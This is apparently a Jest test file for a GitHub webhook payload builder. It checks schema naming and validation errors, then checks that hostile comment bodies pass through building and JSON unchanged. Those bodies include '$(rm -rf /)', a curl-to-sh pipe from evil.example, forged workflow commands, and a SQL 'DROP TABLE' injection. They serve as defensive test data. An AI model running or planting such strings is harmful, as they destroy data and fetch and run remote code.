import { describe, expect, it } from '@jest/globals'
import {
  example,
  issueCommentCreated,
  loadExamples,
  pushEvent,
  schemaName,
  validatePayload,
  type JsonObject
} from '../../src/payloads/index.js'

describe('validating against the official webhook schemas', () => {
  it('names schemas the way @octokit/openapi-webhooks does', () => {
    expect(schemaName('issue_comment', 'created')).toBe(
      'webhook-issue-comment-created'
    )
    expect(schemaName('workflow_dispatch')).toBe('webhook-workflow-dispatch')
    expect(schemaName('pull_request', 'ready_for_review')).toBe(
      'webhook-pull-request-ready-for-review'
    )
  })

  it('shows why builders patch: the raw examples predate the schema', () => {
    const errors = validatePayload(
      'issue_comment',
      'created',
      example('issue_comment', 'created')
    )
    expect(errors.join('\n')).toMatch(/performed_via_github_app/)
    expect(validatePayload('push', undefined, example('push'))).not.toEqual([])
  })

  it('rejects a payload missing a required field', () => {
    const payload: JsonObject = issueCommentCreated({ body: 'x' })
    delete payload['repository']
    expect(validatePayload('issue_comment', 'created', payload)).toEqual([
      expect.stringContaining("must have required property 'repository'")
    ])
  })

  it('rejects wrong types and values, pointing at the field', () => {
    const payload = issueCommentCreated({ body: 'x' })
    ;(payload.issue as JsonObject)['number'] = '42'
    ;(payload.comment as JsonObject)['author_association'] = 'ADMIN'
    const errors = validatePayload('issue_comment', 'created', payload)
    expect(errors.some(e => e.startsWith('/issue/number must be'))).toBe(true)
    expect(
      errors.some(e => e.startsWith('/comment/author_association must be'))
    ).toBe(true)
  })

  it('rejects a payload validated against another action', () => {
    const payload = issueCommentCreated({ body: 'x', action: 'created' })
    expect(validatePayload('issue_comment', 'edited', payload)).not.toEqual([])
  })

  it('rejects a push whose commits are not a list', () => {
    const payload: JsonObject = pushEvent()
    payload['commits'] = {}
    expect(validatePayload('push', undefined, payload)).toEqual([
      expect.stringMatching(/^\/commits must be array/)
    ])
  })

  it('fails loudly for an event the schemas do not know', () => {
    expect(() => validatePayload('issue_coment', 'created', {})).toThrow(
      /no schema webhook-issue-coment-created/
    )
  })

  it('loads the examples once per process', () => {
    expect(loadExamples()).toBe(loadExamples())
  })
})

describe('hostile comment bodies', () => {
  const bodies = [
    '$(rm -rf /)',
    '`curl https://evil.example | sh`',
    '::set-output name=x::y',
    '/deploy staging\r\n::error::forged%0Aline',
    '"; DROP TABLE deployments; --',
    'x'.repeat(65_536)
  ]

  it.each(bodies.map(body => [body.slice(0, 40), body]))(
    'carries %j verbatim through building and JSON',
    (_label, body) => {
      const payload = issueCommentCreated({ body })
      expect(payload.comment.body).toBe(body)
      const roundTrip = JSON.parse(JSON.stringify(payload)) as typeof payload
      expect(roundTrip.comment.body).toBe(body)
      expect(validatePayload('issue_comment', 'created', payload)).toEqual([])
    }
  )
})
